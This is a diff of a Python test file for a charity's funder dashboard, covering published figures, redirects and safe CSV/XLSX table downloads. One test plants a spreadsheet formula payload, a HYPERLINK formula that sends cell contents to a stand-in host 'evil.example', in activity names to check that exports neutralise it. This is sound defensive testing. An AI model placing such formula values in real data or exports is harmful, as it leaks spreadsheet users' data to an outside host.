@@ -65,8 +65,8 @@ def test_headline_and_figures_are_the_published_rows(conn: sqlite3.Connection) -
     reach = o.figures["reach"]
     assert reach.params == {"period_type": "quarter", "activity": "Lunch club", "area": "All areas"}
     assert [r[-1] for r in reach.rows] == ["2024-Q1"]
-    assert o.figures["who"].link("funders", ".csv") == (
-        "/funders/who.csv?period=2024-Q1&activity=Lunch+club&area=All+areas"
+    assert o.figures["who"].link(".csv") == (
+        "/dashboard/table/who.csv?period=2024-Q1&activity=Lunch+club&area=All+areas"
     )
     assert {r[0] for r in o.figures["activities"].rows} == {"All activities", "Lunch club"}
 
@@ -167,3 +167,90 @@ def test_staff_view_sends_funders_to_the_dashboard_and_staff_to_the_index(
     index = staff.get("/")
     assert index.status_code == 200 and "Funder dashboard" in index.text  # in the menu
     assert staff.get("/dashboard").status_code == 200
+
+
+def test_volunteers_and_circumstances_are_the_published_rows(conn: sqlite3.Connection) -> None:
+    o = build(conn, Selection("2024-Q1"))
+    circumstances = conn.execute(
+        "SELECT characteristic, value, people, percent FROM people_circumstances WHERE "
+        "period = '2024-Q1' AND activity = 'All activities' AND area = 'All areas' "
+        "AND position > 0 ORDER BY position"
+    ).fetchall()
+    in_words = [
+        (c, v.replace("preferred_language", "preferred language"), *n) for c, v, *n in circumstances
+    ]
+    assert o.figures["circumstances"].rows == in_words and circumstances  # the labels, no codes
+    assert {"Religion", "Food needs"} <= {group for group, _ in o.figures["circumstances"].groups()}
+    volunteering = conn.execute(
+        "SELECT r.period, r.shown, v.volunteers, v.hours_volunteered, r.people FROM "
+        "people_reached r LEFT JOIN volunteering v USING (period, activity, area) WHERE "
+        "r.period_type = 'quarter' AND activity = 'All activities' AND area = 'All areas'"
+    ).fetchall()
+    rows = {r[-1]: r[1:3] for r in o.figures["volunteers"].rows}
+    assert rows and set(rows) == {period for period, *_ in volunteering}
+    for period, shown, volunteers, hours, people in volunteering:
+        assert rows[period] == ((volunteers, hours) if shown else (people, None))
+    assert build(conn, Selection("2024-03")).figures["circumstances"].too_few
+
+
+def formula_activity(project: Path, tmp_path: Path) -> Path:  # noqa: F811
+    """A copy of funders.db whose activity is named like a spreadsheet formula, as anyone
+    can name an event in a booking tool."""
+    copy = tmp_path / "funders.db"
+    copy.write_bytes((project / "funders.db").read_bytes())
+    db = sqlite3.connect(copy)
+    with db:
+        for table in ("choices", "people_reached"):
+            column = "value" if table == "choices" else "activity"
+            db.execute(f"UPDATE {table} SET {column} = ? WHERE {column} = 'Lunch club'", (EVIL,))
+        db.execute("UPDATE choices SET label = ? WHERE label = 'Lunch club'", (EVIL,))
+    db.close()
+    return copy
+
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Lunch club")'
+
+
+def test_table_downloads_are_in_words_and_formula_safe(project: Path, tmp_path: Path) -> None:  # noqa: F811
+    from openpyxl import load_workbook
+
+    from harvest.publish.dashboard_web import figure_download
+
+    conn = connect(formula_activity(project, tmp_path))
+    o = build(conn, Selection("2024-Q1"), top=None)
+    conn.close()
+    activities = o.figures["activities"]
+    text = figure_download(activities, o, "csv").body.decode("utf-8-sig")
+    lines = text.splitlines()
+    assert lines[0] == "Activity,People,Attendances"  # the headings as on the page
+    assert any(line.startswith("\"'=HYPERLINK(") for line in lines), text
+    sheet = load_workbook(BytesIO(figure_download(activities, o, "xlsx").body)).active
+    cells = [row[0] for row in sheet.iter_rows(values_only=True)]
+    assert "'" + EVIL in cells and EVIL not in cells
+    who = figure_download(o.figures["who"], o, "csv").body.decode("utf-8-sig")
+    assert "fewer than 10" in who and "<10" not in who and "prefer_not_to_say" not in who
+
+
+def test_a_funder_gets_plain_pages_never_datasettes(funder_server: str) -> None:  # noqa: F811
+    funder = login(funder_server, *FUNDER)
+    sent = {
+        "/funders": "/dashboard/tables",
+        "/funders/who_took_part": "/dashboard/tables",
+        "/funders/who?period=2024-Q1&area=": "/dashboard/table/who?period=2024-Q1",
+        "/funders/where_people_live": "/dashboard/table/districts",
+        "/funders/reach?period_type=quarter": "/dashboard/table/reach?period_type=quarter",
+    }
+    for path, target in sent.items():
+        response = funder.get(path)
+        assert (response.status_code, response.headers.get("location")) == (302, target), path
+    bad = funder.get("/funders/reach?period_type=week")
+    assert bad.status_code == 400 and "not one of the types of period" in bad.text
+    assert funder.get("/funders/people").status_code == 404
+    assert funder.get("/funders/reach.json").status_code == 200  # data for programs stays
+    page = funder.get("/dashboard/table/who", params={"period": "2024-Q1"})
+    assert page.status_code == 200 and "Female" in page.text and "SQL" not in page.text
+    csv_text = funder.get("/dashboard/table/reach.csv", params={"period_type": "quarter"}).text
+    assert csv_text.lstrip("\ufeff").startswith("Period,People,New,Returning,Attendances")
+    staff = login(funder_server, *STAFF)  # staff keep Datasette's own pages
+    query = staff.get("/funders/who")
+    assert query.status_code == 200 and "rows-and-columns" in query.text
